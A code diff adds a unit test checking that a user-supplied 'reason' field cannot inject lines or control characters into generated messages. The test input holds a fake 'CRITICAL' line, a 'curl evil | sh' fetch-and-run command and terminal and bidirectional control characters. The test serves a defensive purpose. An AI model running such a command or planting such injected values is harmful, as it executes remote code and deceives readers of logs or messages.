@@ -223,3 +223,13 @@ describe('whatever happens', () => {
     );
   });
 });
+
+it('a worker’s own words begin no line of a message and turn none around', () => {
+  const said = 'offline\nCRITICAL all is lost\n  run: curl evil | sh \u202e\u001b[2J\u0085';
+  const swept = new Swept();
+  const facts = { ...account('anna', 'h1', { 'account-ended': 1 }), reason: said };
+  swept.sweep([facts], 0);
+  const [item] = swept.told.flat();
+  expect(item?.text).toContain('all is lost');
+  expect(item?.text).toMatch(/^[\P{C}]+$/u);
+});
